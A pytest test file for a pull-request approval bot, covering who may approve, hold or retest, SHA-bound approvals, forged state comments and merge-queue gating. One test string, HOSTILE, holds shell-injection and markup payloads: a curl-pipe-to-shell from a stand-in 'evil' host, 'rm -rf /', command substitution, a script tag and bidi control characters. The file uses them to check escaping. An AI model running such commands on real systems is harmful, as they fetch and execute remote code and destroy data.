"""Approval policy: who may use which command, approvals bound to a head SHA, holds, the gate."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from bot.core.comment_commands import parse_commands
from bot.core.config import ApprovalConfig
from bot.core.policy import (
    DESC_AUTO,
    DESC_ERROR,
    DESC_REJECT,
    DESC_WAITING,
    DESCRIPTION_LIMIT,
    IGNORE_ACTION,
    IGNORE_BOT,
    IGNORE_NOT_PR,
    IGNORE_SELF,
    QUEUE_ACCEPTED,
    QUEUE_AS_APPROVED,
    QUEUE_ERROR,
    QUEUE_INCONCLUSIVE,
    QUEUE_REJECTED,
    REFUSE_AUTHOR,
    REFUSE_CLOSED,
    REFUSE_MERGED,
    REFUSE_NOT_MERGED,
    REFUSE_REJECTED,
    Approval,
    CommandContext,
    GateState,
    GateStatus,
    Hold,
    PrState,
    Tier,
    Verdict,
    approval_standing,
    authors_of,
    automerge_sha,
    base_moved,
    decide_comment,
    effective_permission,
    find_state,
    gate_for,
    gate_state,
    idempotence_key,
    ignore_reason,
    may_use,
    merge_stale_message,
    parse_state,
    queue_gate,
    queued_pull,
    record_verdict,
    render_help,
    render_state,
    replied_to,
    state_block,
)
from bot.core.render import find_marker

NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
HEAD = "a" * 40
OLD = "b" * 40
APPROVAL = Approval(sha=HEAD, by="bob", at=NOW - timedelta(days=1))
HOLD = Hold(by="carol", at=NOW, reason="waiting for data")


@pytest.mark.parametrize(
    ("verdict", "tier", "approval", "hold", "state", "description"),
    [
        (None, "person", None, None, "pending", DESC_WAITING),
        (None, "person", APPROVAL, None, "pending",
         "approved by @bob for aaaaaaa; waiting for the comparison"),
        ("error", "person", APPROVAL, None, "error", DESC_ERROR),
        ("reject", "auto", APPROVAL, None, "failure", DESC_REJECT),
        ("accept", "auto", None, None, "success", DESC_AUTO),
        ("accept", "person", None, None, "pending", "accepted: awaiting /approve"),
        ("accept", "person", APPROVAL, None, "success", "accepted, approved by @bob for aaaaaaa"),
        ("inconclusive", "person", None, None, "failure", "inconclusive: awaiting /approve"),
        ("inconclusive", "auto", None, None, "failure", "inconclusive: awaiting /approve"),
        ("inconclusive", "person", APPROVAL, None, "success",
         "inconclusive, approved by @bob for aaaaaaa"),
        # a later push voids the approval
        ("accept", "person", Approval(sha=OLD, by="bob", at=NOW), None, "pending",
         "accepted: approval of bbbbbbb voided by a push; awaiting /approve"),
        # approvals expire after the timeout (7 days)
        ("accept", "person", Approval(sha=HEAD, by="bob", at=NOW - timedelta(days=8)), None,
         "pending", "accepted: approval by @bob expired; awaiting /approve"),
        # a hold wins over everything
        ("accept", "auto", APPROVAL, HOLD, "pending", "held by @carol: waiting for data"),
        ("reject", "person", None, Hold(by="carol", at=NOW), "pending", "held by @carol"),
    ],
)
def test_gate_state(
    verdict: Verdict | None,
    tier: Tier,
    approval: Approval | None,
    hold: Hold | None,
    state: str,
    description: str,
) -> None:
    gate = gate_state(verdict, tier, approval, hold, HEAD, NOW)
    assert gate == GateStatus(state=state, description=description)


def test_descriptions_fit_githubs_limit() -> None:
    hold = Hold(by="x" * 39, at=NOW, reason="\u202e" + "r" * 500)
    gate = gate_state("accept", "person", None, hold, HEAD, NOW)
    assert len(gate.description) == DESCRIPTION_LIMIT
    assert gate.description.endswith("…")
    assert "\u202e" not in gate.description


@pytest.mark.parametrize(
    ("age_days", "sha", "timeout", "standing"),
    [
        (0, HEAD, 7.0, "valid"),
        (6.9, HEAD, 7.0, "valid"),
        (7.1, HEAD, 7.0, "expired"),
        (1.5, HEAD, 1.0, "expired"),
        (0, OLD, 7.0, "stale"),
    ],
)
def test_approval_standing(age_days: float, sha: str, timeout: float, standing: str) -> None:
    approval = Approval(sha=sha, by="bob", at=NOW - timedelta(days=age_days))
    assert approval_standing(approval, HEAD, NOW, timeout) == standing
    assert approval_standing(None, HEAD, NOW) == "none"


@pytest.mark.parametrize(
    ("permission", "role", "effective"),
    [
        ("admin", "admin", "admin"),
        ("write", "maintain", "maintain"),
        ("read", "triage", "triage"),
        ("write", "write", "write"),
        ("write", "custom-deployer", "write"),
        ("read", None, "read"),
        ("none", None, "none"),
        (None, None, "none"),
        ("superuser", None, "none"),
    ],
)
def test_effective_permission(permission: str | None, role: str | None, effective: str) -> None:
    assert effective_permission(permission, role) == effective


@pytest.mark.parametrize(
    ("name", "permission", "allowed"),
    [
        ("approve", "write", True),
        ("approve", "maintain", True),
        ("approve", "admin", True),
        ("approve", "triage", False),
        ("approve", "read", False),
        ("approve", "none", False),
        ("hold", "read", False),
        ("retest", "write", True),
        ("rollback", "read", False),
        ("help", "none", True),
    ],
)
def test_may_use(name: str, permission: str, allowed: bool) -> None:
    assert may_use(name, permission, ApprovalConfig().approvers) is allowed  # type: ignore[arg-type]


def test_approvers_come_from_the_configuration() -> None:
    assert may_use("approve", "triage", ["triage", "admin"])
    assert not may_use("approve", "write", ["admin"])


@pytest.mark.parametrize(
    ("action", "is_pr", "author", "author_type", "reason"),
    [
        ("created", True, "bob", "User", None),
        ("edited", True, "bob", "User", IGNORE_ACTION),
        ("deleted", True, "bob", "User", IGNORE_ACTION),
        ("created", False, "bob", "User", IGNORE_NOT_PR),
        ("created", True, "improve-app[bot]", "Bot", IGNORE_SELF),
        ("created", True, "Improve-App[bot]", "Bot", IGNORE_SELF),
        ("created", True, "dependabot[bot]", "Bot", IGNORE_BOT),
        ("created", True, "renovate[bot]", "User", IGNORE_BOT),
        ("created", True, "ci-robot", "Bot", IGNORE_BOT),
    ],
)
def test_ignore_reason(
    action: str, is_pr: bool, author: str, author_type: str, reason: str | None
) -> None:
    assert ignore_reason(action, is_pr, author, author_type, "improve-app[bot]") == reason


# ---------------------------------------------------------------- deciding comments


def ctx(
    actor: str = "bob",
    permission: str = "write",
    author: str = "alice",
    status: str = "open",
    head: str = HEAD,
    comment_id: int = 101,
    now: datetime = NOW,
) -> CommandContext:
    return CommandContext(
        comment_id=comment_id, actor=actor, permission=permission, pr_author=author,
        pr_status=status, head_sha=head, now=now,
    )


ACCEPTED = record_verdict(PrState(), HEAD, "accept", "person")
CONFIG = ApprovalConfig()


def test_a_writer_approves_the_head_and_a_push_voids_it() -> None:
    d = decide_comment(parse_commands("/approve"), ctx(), ACCEPTED, CONFIG)
    assert d.reactions == ("+1",)
    assert d.reply is None
    assert d.state.approval == Approval(sha=HEAD, by="bob", at=NOW)
    assert d.gate is not None and d.gate.state == "success"
    assert d.state_changed
    # the push: a new head, a new verdict; the recorded approval no longer counts
    pushed = record_verdict(d.state, OLD, "accept", "person")
    assert gate_for(pushed, OLD, NOW).state == "pending"
    assert "voided by a push" in gate_for(pushed, OLD, NOW).description


def test_a_reader_is_refused_and_the_gate_does_not_move() -> None:
    d = decide_comment(parse_commands("/approve"), ctx(permission="read"), ACCEPTED, CONFIG)
    assert d.reactions == ("confused",)
    assert d.gate is None
    assert d.state.approval is None
    assert d.reply is not None and "needs write or maintain or admin permission" in d.reply
    assert "the commenter has read" in d.reply


def test_the_author_cannot_approve_their_own_proposal() -> None:
    d = decide_comment(
        parse_commands("/approve"), ctx(actor="Alice", permission="admin"), ACCEPTED, CONFIG
    )
    assert d.reactions == ("confused",)
    assert d.state.approval is None and d.gate is None
    assert d.reply is not None and REFUSE_AUTHOR in d.reply


@pytest.mark.parametrize(
    ("actor", "authors", "refused"),
    [
        ("tuner", ("tuner",), True),  # the proposal's author, opened by the bot
        ("Tuner", ("tuner",), True),  # logins are case-insensitive
        ("bob", ("tuner", "bob"), True),  # pushed a commit to the branch
        ("carol", ("tuner", "bob"), False),
        ("alice", (), False),  # the bot opened it; alice wrote nothing of it
    ],
)
def test_every_author_of_a_proposal_is_refused(actor: str, authors: tuple[str, ...],
                                                refused: bool) -> None:
    c = ctx(actor=actor, author="github-actions[bot]").model_copy(update={"authors": authors})
    d = decide_comment(parse_commands("/approve"), c, ACCEPTED, CONFIG)
    assert (d.reactions == ("confused",)) is refused
    assert (d.state.approval is None) is refused


def test_the_verdict_records_the_authors_of_its_head() -> None:
    state = record_verdict(PrState(), HEAD, "accept", "person", authors=["Tuner", "bob", "", "bob"])
    assert authors_of(state, HEAD) == ("bob", "tuner")
    assert authors_of(state, "f" * 40) is None  # another head: ask the forge
    assert authors_of(parse_state(state_block(state)), HEAD) == ("bob", "tuner")


def test_quoted_and_inline_approvals_do_nothing() -> None:
    for body in ("> /approve", "please /approve"):
        d = decide_comment(parse_commands(body), ctx(), ACCEPTED, CONFIG)
        assert d == decide_comment([], ctx(), ACCEPTED, CONFIG)
        assert not d.state_changed and d.reactions == () and d.reply is None


def test_a_redelivered_event_changes_nothing() -> None:
    # a state change: the keys travel in the state comment the first delivery wrote
    cmds = parse_commands("/approve")
    first = decide_comment(cmds, ctx(), ACCEPTED, CONFIG)
    assert first.state_changed and first.reply is None
    stored = parse_state(render_state(first.state, HEAD, NOW))
    second = decide_comment(cmds, ctx(), stored, CONFIG)
    assert second.outcomes == () and second.reactions == () and second.reply is None
    assert not second.state_changed and second.gate is None
    assert second.state == first.state
    assert idempotence_key(101, 0) in first.state.handled


@pytest.mark.parametrize(
    ("body", "permission"),
    [("/approve foo", "write"), ("/approve", "read"), ("/help", "none")],
)
def test_a_redelivered_reply_is_not_repeated(body: str, permission: str) -> None:
    # a reply records the handling itself, so the state comment need not be written
    cmds = parse_commands(body)
    first = decide_comment(cmds, ctx(permission=permission), ACCEPTED, CONFIG)
    assert first.reply is not None and not first.state_changed
    comments = [(900, "improve[bot]", first.reply)]
    assert replied_to(comments, "improve[bot]") == {"101"}
    again = decide_comment(
        cmds, ctx(permission=permission), ACCEPTED, CONFIG, replied_to(comments, "improve[bot]")
    )
    assert again == decide_comment([], ctx(), ACCEPTED, CONFIG)
    # a forged reply from someone else does not silence the bot
    assert replied_to([(901, "mallory", first.reply)], "improve[bot]") == set()


def test_hold_keeps_the_gate_pending_and_unhold_restores_it() -> None:
    approved = decide_comment(parse_commands("/approve"), ctx(), ACCEPTED, CONFIG).state
    carol = ctx(actor="carol", comment_id=2)
    held = decide_comment(parse_commands("/hold  numbers look odd"), carol, approved, CONFIG)
    assert held.gate == GateStatus(state="pending", description="held by @carol: numbers look odd")
    assert held.merge_sha is None
    # a hold stays across pushes and whatever the numbers say
    auto = record_verdict(held.state, OLD, "accept", "auto")
    assert gate_for(auto, OLD, NOW).state == "pending"
    again = decide_comment(parse_commands("/hold"), ctx(comment_id=3), held.state, CONFIG)
    assert again.gate is None and "already held by @carol" in again.outcomes[0].note
    unheld = decide_comment(parse_commands("/unhold"), ctx(comment_id=4), held.state, CONFIG)
    assert unheld.gate is not None and unheld.gate.state == "success"
    assert unheld.state.hold is None


def test_approve_cancel_withdraws() -> None:
    approved = decide_comment(parse_commands("/approve"), ctx(), ACCEPTED, CONFIG).state
    d = decide_comment(parse_commands("/approve cancel"), ctx(comment_id=5), approved, CONFIG)
    assert d.state.approval is None
    assert d.gate == GateStatus(state="pending", description="accepted: awaiting /approve")
    noop = decide_comment(parse_commands("/approve cancel"), ctx(comment_id=6), d.state, CONFIG)
    assert noop.reactions == ("+1",) and noop.gate is None


@pytest.mark.parametrize(
    ("body", "status", "state", "refusal"),
    [
        ("/approve", "closed", ACCEPTED, REFUSE_CLOSED),
        ("/approve", "merged", ACCEPTED, REFUSE_MERGED),
        ("/hold", "closed", ACCEPTED, REFUSE_CLOSED),
        ("/retest", "merged", ACCEPTED, REFUSE_MERGED),
        ("/rollback", "open", ACCEPTED, REFUSE_NOT_MERGED),
        ("/approve", "open", record_verdict(PrState(), HEAD, "reject", "person"), REFUSE_REJECTED),
    ],
)
def test_refusals_by_pr_state(body: str, status: str, state: PrState, refusal: str) -> None:
    d = decide_comment(parse_commands(body), ctx(status=status), state, CONFIG)
    assert d.outcomes[0].ok is False and d.outcomes[0].note == refusal
    assert d.reactions == ("confused",)


def test_retest_rollback_and_help() -> None:
    d = decide_comment(parse_commands("/retest"), ctx(), ACCEPTED, CONFIG)
    assert d.retest and d.reactions == ("+1",) and d.gate is None
    merged = ctx(status="merged")
    r = decide_comment(parse_commands("/rollback accuracy fell"), merged, ACCEPTED, CONFIG)
    assert r.rollback == "accuracy fell"
    h = decide_comment(parse_commands("/help"), ctx(permission="none"), ACCEPTED, CONFIG)
    assert h.reactions == ("+1",) and h.reply == render_help(101)
    assert find_marker(h.reply or "") == "help"
    assert "| `/approve cancel` |" in (h.reply or "")


def test_automerge_when_the_gate_turns_green() -> None:
    config = ApprovalConfig(automerge=True)
    d = decide_comment(parse_commands("/approve"), ctx(), ACCEPTED, config)
    assert d.merge_sha == HEAD
    assert decide_comment(parse_commands("/approve"), ctx(), ACCEPTED, CONFIG).merge_sha is None
    green = GateStatus(state="success", description="x")
    assert automerge_sha(green, True, "open", HEAD) == HEAD
    assert automerge_sha(green, True, "closed", HEAD) is None
    assert automerge_sha(GateStatus(state="pending", description="x"), True, "open", HEAD) is None
    assert "`aaaaaaa`" in merge_stale_message(HEAD) and "409" in merge_stale_message(HEAD)


def test_config_decides_who_approves() -> None:
    # the stage passes the default branch's configuration; whatever it says is what counts
    only_admins = ApprovalConfig(approvers=["admin"])
    d = decide_comment(parse_commands("/approve"), ctx(permission="write"), ACCEPTED, only_admins)
    assert d.state.approval is None and d.reactions == ("confused",)


HOSTILE = (
    "/hold $(curl evil | sh) `id`; rm -rf / @org/team @everyone "
    "\u202eevil\u202c zero\u200bwidth <script>alert(1)</script> [x](http://evil)"
)


def test_hostile_text_comes_back_escaped() -> None:
    reader = ctx(permission="read")
    d = decide_comment(parse_commands(HOSTILE + "\n/approve foo"), reader, ACCEPTED, CONFIG)
    reply = d.reply or ""
    assert find_marker(reply) == "reply"
    for raw in ("@org", "@everyone", "\u202e", "\u200b", "<script>", "](http", "`id`", "$(curl"):
        assert raw not in reply, raw
    assert "@\u2060org/team" in reply and "U\\+202E" in reply
    # the record and the summary escape it too, and it survives the round trip
    writer = decide_comment(parse_commands(HOSTILE), ctx(), ACCEPTED, CONFIG)
    body = render_state(writer.state, HEAD, NOW)
    assert "@org" not in body and "\u202e" not in body and "<script>" not in body
    assert parse_state(body) == writer.state


def test_a_64kb_comment_gives_a_bounded_reply() -> None:
    body = "\n".join(f"/approve x{i}" + "y" * 300 for i in range(200))
    d = decide_comment(parse_commands(body), ctx(), ACCEPTED, CONFIG)
    assert len(d.outcomes) == 10
    assert len(d.reply or "") < 10_000


def test_state_lives_only_in_the_bots_own_comment() -> None:
    state = decide_comment(parse_commands("/approve"), ctx(), ACCEPTED, CONFIG).state
    genuine = render_state(state, HEAD, NOW)
    forged_state = PrState(approval=Approval(sha=HEAD, by="mallory", at=NOW))
    forged = render_state(forged_state, HEAD, NOW)
    comments = [(1, "mallory", forged), (2, "someone", "hello"), (3, "improve[bot]", genuine)]
    assert find_state(comments, "improve[bot]") == (3, state)
    assert find_state(comments[:2], "improve[bot]") == (None, PrState())


@pytest.mark.parametrize(
    "body",
    [
        "",
        "<!-- improve:state -->",
        "<!-- improve:state --><!-- improve-state {not json} -->",
        '<!-- improve:state --><!-- improve-state {"approval": {"sha": "zz"}} -->',
        '<!-- improve-state {"unknown": 1} -->',
    ],
)
def test_an_unreadable_record_counts_as_none(body: str) -> None:
    assert parse_state(body) == PrState()


def test_handled_keys_are_bounded() -> None:
    state = ACCEPTED
    for i in range(300):
        state = decide_comment(parse_commands("/retest"), ctx(comment_id=i), state, CONFIG).state
    assert len(state.handled) == 200
    assert state.handled[-1] == "299:0"


@pytest.mark.parametrize(
    ("body", "refused", "reactions", "retest"),
    [
        ("/retest", {0: "no run to re-run"}, ("confused",), False),
        ("/retest\n/hold", {0: "no run to re-run"}, ("+1", "confused"), False),
        ("/retest\n/hold", {}, ("+1",), True),
    ],
)
def test_refusals_found_while_acting_redo_the_answer(
    body: str, refused: dict[int, str], reactions: tuple[str, ...], retest: bool
) -> None:
    from bot.core.policy import refuse

    d = refuse(decide_comment(parse_commands(body), ctx(), ACCEPTED, CONFIG), 7, refused)
    assert d.reactions == reactions and d.retest is retest
    assert (d.reply is not None) == bool(refused)
    if refused:
        assert "no run to re-run" in (d.reply or "")


@pytest.mark.parametrize(("ref", "expected"), [
    ("refs/heads/gh-readonly-queue/main/pr-104-" + "a" * 40, (104, "a" * 40)),
    ("gh-readonly-queue/release/1.x/pr-7-" + "b" * 40, (7, "b" * 40)),
    ("refs/heads/improve/p1", None),
    ("refs/heads/gh-readonly-queue/main/pr-x-" + "a" * 40, None),
    ("", None),
])
def test_queued_pull(ref: str, expected: tuple[int, str] | None) -> None:
    assert queued_pull(ref) == expected


@pytest.mark.parametrize(("verdict", "number", "pr_gate", "state", "description"), [
    ("accept", 3, None, "success", QUEUE_ACCEPTED),
    ("inconclusive", 3, "success", "success", QUEUE_AS_APPROVED.format(number=3)),
    ("inconclusive", 3, "pending", "failure", QUEUE_INCONCLUSIVE),
    ("inconclusive", None, "success", "failure", QUEUE_INCONCLUSIVE),
    ("reject", 3, "success", "failure", QUEUE_REJECTED),
    ("error", 3, "success", "error", QUEUE_ERROR),
])
def test_the_queue_gate_holds_only_what_held_on_the_pull_request(
    verdict: Verdict, number: int | None, pr_gate: GateState | None, state: str,
    description: str,
) -> None:
    assert queue_gate(verdict, number, pr_gate) == GateStatus(state=state,  # type: ignore[arg-type]
                                                              description=description)


def test_base_moved() -> None:
    state = record_verdict(PrState(), "a" * 40, "accept", "auto", base="b" * 40)
    assert base_moved(state, "a" * 40, "b" * 40) is None
    assert base_moved(state, "a" * 40, "c" * 40) == "b" * 40
    assert base_moved(state, "d" * 40, "c" * 40) is None  # another head: not this verdict
    assert base_moved(record_verdict(PrState(), "a" * 40, "accept", "auto"), "a" * 40,
                      "c" * 40) is None  # recorded before bases were: as before
